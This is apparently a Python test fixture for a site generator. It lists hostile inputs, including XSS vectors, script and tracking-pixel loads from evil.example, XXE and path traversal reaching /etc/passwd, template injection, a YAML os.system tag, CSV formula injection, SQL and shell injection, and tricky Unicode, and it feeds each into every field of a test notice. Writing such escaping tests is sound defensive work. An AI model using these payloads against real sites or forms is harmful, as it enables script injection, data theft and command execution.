"""Texts that would do harm wherever they were taken for more than text. Each `ran` they try to set is ours to look for."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

from tests.site.hostile import ANCHOR, hostile

from zhenggai.ingest.markdown import escape

PAYLOADS: dict[str, str] = {
    # scripts and what carries them
    "script": "<script>ran=1</script>",
    "script-upper": "<SCRIPT>ran=1</SCRIPT>",
    "script-split": "<scr<script>ipt>ran=1</scr</script>ipt>",
    "script-src": '<script src="//evil.example/x.js"></script>',
    "script-open": "<script>ran=1//",
    "script-close": "</script><script>ran=1</script>",
    "script-slash": "<script/xss src=data:,ran=1></script>",
    "title-close": "</title><script>ran=1</script>",
    "textarea-close": "</textarea></style></noscript></template><script>ran=1</script>",
    "comment": "--><script>ran=1</script><!--",
    "comment-open": "<!-- 其后皆隐",
    "cdata": "]]><script>ran=1</script>",
    "processing": '<?xml-stylesheet href="javascript:ran=1"?>',
    "doctype": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    # elements that run or load by themselves
    "img": "<img src=x onerror=ran=1>",
    "img-tracker": '<img src="https://evil.example/p.gif?c=">',
    "svg": "<svg onload=ran=1><animate onbegin=ran=1 attributeName=x dur=1s></svg>",
    "svg-use": '<svg><use href="data:image/svg+xml,<svg id=x onload=ran=1>#x"/></svg>',
    "math": "<math><mi//xlink:href='data:x,<script>ran=1</script>'></math>",
    "iframe": '<iframe srcdoc="<script>parent.ran=1</script>"></iframe>',
    "object": '<object data="javascript:ran=1"></object><embed src="javascript:ran=1">',
    "video": "<video><source onerror=ran=1></video><audio src=x onerror=ran=1>",
    "details": "<details open ontoggle=ran=1>甲</details>",
    "autofocus": "<input autofocus onfocus=ran=1><select autofocus onfocus=ran=1>",
    "marquee": "<marquee onstart=ran=1>甲</marquee>",
    "meta": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "base": '<base href="https://evil.example/">',
    "link": '<link rel=stylesheet href="https://evil.example/x.css">',
    "form": '<form action="https://evil.example/"><button>登录</button></form>',
    "template": "<template shadowrootmode=open><script>ran=1</script></template>",
    "style": "<style>*{display:none}</style>",
    "style-import": "<style>@import 'https://evil.example/x.css';</style>",
    # out of attributes
    "double-quote": '" onmouseover="ran=1" autofocus onfocus="ran=1" x="',
    "single-quote": "' onmouseover='ran=1' autofocus onfocus='ran=1' x='",
    "no-quote": " onmouseover=ran=1 autofocus onfocus=ran=1 ",
    "backtick": "` onmouseover=ran=1 `",
    "attribute-close": '"><img src=x onerror=ran=1>',
    "style-attribute": '" style="position:fixed;inset:0;background:url(https://evil.example/)',
    # addresses
    "javascript": "javascript:ran=1",
    "javascript-mixed": "JaVaScRiPt:ran=1",
    "javascript-tab": "java\tscript:ran=1",
    "javascript-entity": "&#106;avascript&colon;ran=1",
    "data-html": "data:text/html,<script>ran=1</script>",
    "vbscript": "vbscript:msgbox(1)",
    "protocol": "//evil.example/x",
    "javascript-comment": "javascript://example.cn/%0aran=1",
    # entities
    "entities": "&lt;script&gt;ran=1&lt;/script&gt;",
    "entities-double": "&amp;lt;b&amp;gt; &#60;script&#62; &#x3c;b&#x3e; &nbsp;&quot;",
    # Markdown
    "markdown-link": "[点这里](javascript:ran=1) ![图](https://evil.example/p.gif) <javascript:ran=1>",
    "markdown-reference": "[甲]: javascript:ran=1 [甲]",
    "markdown-signs": "# 甲 *乙* __丙__ `丁` ~~戊~~ > 己 | 庚 | --- ***",
    "markdown-attributes": "甲 {: onclick=ran=1 style=display:none #main .md-skip }",
    "markdown-html": "**<img src=x onerror=ran=1>** ```<script>ran=1</script>```",
    "markdown-backslash": "\\<script\\>ran=1\\</script\\> \\\\",
    # templates
    "jinja": "{{ 7*7 }}{{ config.__class__.__init__.__globals__ }}{% raw %}",
    "jinja-comment": "{# 甲 #}{% include '/etc/passwd' %}{% endblock %}",
    "template-literal": "${ran=1} `${ran=1}`",
    "angular": "{{constructor.constructor('ran=1')()}} <%= 7*7 %> #{7*7}",
    "format": "%s %n %(x)s {0} {x.__class__}",
    # YAML, JSON, XML, CSV, vCard
    "yaml-tag": "!!python/object/apply:os.system ['true']",
    "yaml-alias": "&a *a << : - ? | > @ ` % --- ...",
    "yaml-end": "--- 甲: 乙 ...",
    "json": '"}],"x":{"__proto__":{"ran":1}},"',
    "proto": "__proto__ constructor prototype toString hasOwnProperty",
    "separators": "甲\u2028乙\u2029丙",
    "xml": "<entry xmlns='x'>&undefined; ]]></content></feed>",
    "csv-equals": '=HYPERLINK("https://evil.example/","点")',
    "csv-plus": "+1+cmd|' /C calc'!A0",
    "csv-minus": "-2+3+cmd|' /C calc'!A0",
    "csv-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "csv-wide": "＝1+1；＋1；－1；＠SUM",
    "csv-quotes": "\"\"\",;'=1+1",
    "csv-apostrophe": "''=1+1",
    "csv-tab": "\t=1+1",
    "vcard": "甲;乙,丙:丁\\n END:VCARD BEGIN:VCARD FN:恶",
    "vcard-breaks": "甲 \\, \\; \\n X-EVIL:1 \\",
    # paths, queries, shells, patterns
    "traversal": "../../../../etc/passwd",
    "traversal-windows": "..\\..\\C:\\Windows\\win.ini",
    "traversal-encoded": "%2e%2e%2f%2e%2e%2fetc%2fpasswd%00.md",
    "fragment": "#main?x=1&y=2;z=%zz%",
    "sql": "'; DROP TABLE reports; -- \" OR 1=1 /*",
    "shell": "$(touch ran) `touch ran` ; touch ran | && > ran",
    "pattern": "(a+)+$ .* [a-z]{1,9999} \\1 (?<x>",
    # characters
    "null": "甲\x00乙",
    "controls": "甲\x08\x1b[31m乙\x7f\x85丙",
    "bidi": "甲\u202etxt.exe\u202c乙\u2066丙\u2069",
    "bidi-open": "\u202e\u2067\u202d反着写",
    "zero-width": "甲\u200b乙\u200d丙\ufeff丁\u2060戊",
    "tags": "甲\U000e0041\U000e0042乙",
    "combining": "甲" + "\u0301\u0336" * 60 + "乙",
    "noncharacters": "甲\ufffe乙\uffff丙",
    "emoji": "👩‍👩‍👧‍👦🇨🇳é𠮷",
    "long-word": "A" * 3000,
    "long-chinese": "汉" * 3000,
    "long-tag": "<" * 500 + ">" * 500,
    "spaces": "甲\u00a0\u3000\u2003 乙",
}  # fmt: skip
"""By name."""


def notices() -> Iterator[tuple[str, dict[str, Any]]]:
    """(payload, front matter and body) of one notice for each payload, which stands in every field of it."""
    for number, evil in enumerate(PAYLOADS.values()):
        yield (
            evil,
            hostile(evil)
            | {
                "id": f"hostile-{number:03}",
                "unit_id": f"hostile-unit-{number:03}",
                "corrections": [{"date": "2024-01-05", "note": evil}],
                "allow": [{"code": "X", "reason": evil}],
                "source": {
                    "file": evil, "sha256": f"{number:064}", "encoding": evil, "url": evil, "printed": {evil: evil},
                    "copies": [{"file": evil, "sha256": "f" * 64, "url": evil}],
                },
                "body": f"{escape(evil)}\n\n{evil}\n\n## 甲 {evil}\n\n"
                + "".join(f"## 庚 {{#{ANCHOR}{n}}}\n\n" for n in ("", 2, 3, 4)),
            },
        )  # fmt: skip
